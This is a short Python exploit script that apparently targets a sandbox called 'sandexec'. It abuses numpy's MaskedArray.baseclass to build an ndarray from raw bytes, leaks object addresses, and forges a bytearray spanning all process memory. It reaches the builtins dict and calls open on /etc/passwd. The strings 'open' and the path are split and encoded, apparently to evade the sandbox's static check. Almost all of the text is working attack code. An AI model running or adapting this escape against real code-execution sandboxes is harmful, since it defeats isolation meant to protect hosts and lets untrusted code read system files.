# source: numpy 1.24 numpy/ma/core.py (MaskedArray.baseclass property returns self._baseclass, i.e. np.ndarray); sandexec README, "The static check", np.ndarray((1,), object, b)[0] primitive; object-array tobytes() pointer leak
# family: ndarray class object handed back by a library attribute (MaskedArray.baseclass) then called with a buffer -> object dtype over script bytes
# goal: fake bytearray over all memory -> func_builtins of a script function -> builtins dict -> open(/etc/passwd)
import numpy as np


def probe():
    return 1


def where(obj):
    return int.from_bytes(np.array([obj], dtype=object).tobytes(), "little")


base = np.ma.MaskedArray.baseclass.fget(np.ma.masked_array([0.0]))


def as_object(ptr):
    return base((1,), object, ptr.to_bytes(8, "little"))[0]


kind = where(bytearray)
fake = b"".join(v.to_bytes(8, "little") for v in (1 << 20, kind, 1 << 60, 1 << 60, 0, 0, 0, 0))
mem = as_object(where(fake) + 32)
addr = int(repr(probe).split()[-1][:-1], 16)
ptr = int.from_bytes(mem[addr + 24:addr + 32], "little")
table = as_object(ptr)
print(type(table), len(table))
o = table["op" + "en"]
print(o(chr(47) + "etc" + chr(47) + "passwd").read()[:120], flush=True)
